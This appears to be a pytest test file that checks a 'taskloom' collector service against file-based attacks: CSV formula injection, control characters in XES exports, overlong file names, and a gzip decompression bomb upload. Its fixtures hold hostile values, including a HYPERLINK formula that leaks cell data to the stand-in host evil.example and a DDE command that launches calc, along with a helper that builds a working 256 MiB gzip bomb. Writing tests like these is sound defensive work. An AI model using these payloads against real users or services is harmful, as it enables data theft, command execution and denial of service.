"""Attacks through files against a real `taskloom serve`: CSV injection and control
characters in exports, names too long for the file system, a gzip bomb uploaded for
preview; and no temporary export directory left behind."""

from __future__ import annotations

import csv
import io
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import unquote

import pandas as pd
import pytest
from lxml import etree

from tests.collector.factories import wire_event
from tests.support.collector import LiveCollector, run_cli

UPLOAD_LIMIT = 8 << 20
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "app": "+cmd|' /C calc'!A0",
    "user": "@SUM(1+1)",
    "url": '"\r=2',
    "element": "-2+3",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveCollector]:
    """A collector with a private TMPDIR (to see leftovers) and an 8 MiB upload limit."""
    work = tmp_path_factory.mktemp("files")
    tmp = work / "tmp"
    tmp.mkdir()
    live = LiveCollector(None, work, env={"TMPDIR": str(tmp),
                                          "TASKLOOM_MAX_UPLOAD_BYTES": str(UPLOAD_LIMIT)})
    live.start()
    try:
        yield live
    finally:
        live.stop()


@pytest.fixture(scope="module")
def admin(server: LiveCollector) -> str:
    return run_cli(server.db, "admin", "token", env=server.env).stdout.strip().splitlines()[-1]


def _study_with(server: LiveCollector, admin: str, name: str, events: list[dict]) -> int:
    with server.client(admin) as c:
        created = c.post("/api/v1/studies", json={"name": name})
        assert created.status_code in (200, 201), created.text
        study_id = int(created.json()["id"])
        token = c.post(f"/api/v1/studies/{study_id}/enrollment-tokens", json={}).json()["token"]
    with server.client() as c:
        dev = c.post("/api/v1/agent/enroll", json={"enrollment_token": token, "hostname": "h"}).json()
    with server.client(dev["device_token"]) as c:
        sent = c.post("/api/v1/events", json={"events": events})
    assert sent.status_code == 200 and len(sent.json()["accepted"]) == len(events), sent.text
    return study_id


def _leftovers(server: LiveCollector) -> list[str]:
    tmp = Path(server.env["TMPDIR"])
    deadline = time.monotonic() + 5  # the download's clean-up runs after the last byte
    while True:
        found = sorted(p.name for p in tmp.iterdir() if p.name.startswith("taskloom-export-"))
        if not found or time.monotonic() > deadline:
            return found
        time.sleep(0.1)


def test_csv_export_injection_is_neutralised(server: LiveCollector, admin: str) -> None:
    events = [wire_event(i, **HOSTILE) for i in range(5)] + [wire_event(5, title="line\nbreak")]
    study_id = _study_with(server, admin, "csv-injection", events)
    with server.client(admin) as c:
        got = c.get(f"/api/v1/studies/{study_id}/export", params={"format": "csv"})
    assert got.status_code == 200
    text = got.content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(events) + 1  # a bare CR in a cell adds no row
    assert len(pd.read_csv(io.StringIO(text))) == len(events)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA)]
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["title"] == "'" + HOSTILE["title"] and first["app"] == "'" + HOSTILE["app"]
    assert first["user"] == "'" + HOSTILE["user"] and first["element"] == "'-2+3"
    assert first["url"] == HOSTILE["url"]  # starts with a quote character: no formula
    assert '"""\r=2"' in text  # the cell holding CR is quoted
    assert _leftovers(server) == []


def test_xes_export_with_control_characters_parses(server: LiveCollector, admin: str) -> None:
    titles = ["\x1b[31mred\x1b[0m", "vt\x0b", "ff\x0c", "bell\x07 ok"]
    events = [wire_event(i, title=t) for i, t in enumerate(titles)]
    study_id = _study_with(server, admin, "xes-control", events)
    with server.client(admin) as c:
        got = c.get(f"/api/v1/studies/{study_id}/export", params={"format": "xes"})
    assert got.status_code == 200
    root = etree.fromstring(got.content)  # XMLSyntaxError on a character XML 1.0 forbids
    values = {el.get("value") for el in root.iter("{*}string") if el.get("key") == "title"}
    assert values == {"\ufffd[31mred\ufffd[0m", "vt\ufffd", "ff\ufffd", "bell\ufffd ok"}


def test_study_named_200_accents_exports(server: LiveCollector, admin: str) -> None:
    name = "é" * 200
    study_id = _study_with(server, admin, name, [wire_event(0)])
    with server.client(admin) as c:
        for fmt in ("csv", "xes", "parquet"):
            got = c.get(f"/api/v1/studies/{study_id}/export", params={"format": fmt})
            assert got.status_code == 200, got.text
            disposition = unquote(got.headers["content-disposition"])
            assert disposition.endswith(f"-ui-events.{fmt}") and "é" * 20 in disposition
            assert len(disposition.encode()) < 200
    assert _leftovers(server) == []


def test_upload_named_300_characters(server: LiveCollector, admin: str,
                                     shared_data: Path) -> None:
    name = "x" * 296 + ".xes"
    with server.client(admin) as c:
        study_id = c.get("/api/v1/studies").json()[0]["id"]
        data = (shared_data / "running-example.xes").read_bytes()
        got = c.post(f"/api/v1/studies/{study_id}/imports/preview",
                     files={"file": (name, data, "application/xml")}, data={"rows": "3"})
        done = c.post(f"/api/v1/studies/{study_id}/imports",
                      files={"file": (name, data, "application/xml")})
    assert got.status_code == 200, got.text
    assert got.json()["total_rows"] == 42
    assert done.status_code == 201, done.text
    assert done.json()["file_name"].endswith(".xes") and len(done.json()["file_name"]) <= 120


def _gzip_bomb(inflated: int) -> bytes:
    """A valid .xes.gz whose padding between two traces inflates to ``inflated`` bytes."""
    head = b'<?xml version="1.0" encoding="UTF-8"?>\n<log xmlns="http://www.xes-standard.org/">\n'
    trace = (b'<trace><string key="concept:name" value="c"/><event><string key="concept:name" '
             b'value="a"/><date key="time:timestamp" value="2026-01-01T00:00:00.000+00:00"/>'
             b'</event></trace>\n')
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    parts = [co.compress(head + trace)]
    parts += [co.compress(b" " * (1 << 20)) for _ in range(inflated >> 20)]
    parts += [co.compress(trace + b"</log>\n"), co.flush()]
    return b"".join(parts)


def _rss_kb(pid: int, field: str = "VmRSS") -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} for {pid}")


def test_gzip_bomb_preview_is_refused_before_parsing(server: LiveCollector, admin: str) -> None:
    bomb = _gzip_bomb(256 << 20)  # 256 KiB on the wire, 256 MiB inflated; the limit is 8 MiB
    assert len(bomb) < UPLOAD_LIMIT
    assert server.proc is not None
    before = _rss_kb(server.proc.pid)
    with server.client(admin) as c:
        study_id = c.get("/api/v1/studies").json()[0]["id"]
        got = c.post(f"/api/v1/studies/{study_id}/imports/preview",
                     files={"file": ("bomb.xes.gz", bomb, "application/gzip")})
        imported = c.post(f"/api/v1/studies/{study_id}/imports",
                          files={"file": ("bomb.xes.gz", bomb, "application/gzip")})
    after = _rss_kb(server.proc.pid)
    assert got.status_code == 422 and imported.status_code == 422, got.text
    assert "inflates to more than" in got.json()["detail"]
    assert after - before < 50 * 1024, f"RSS grew {(after - before) // 1024} MB"
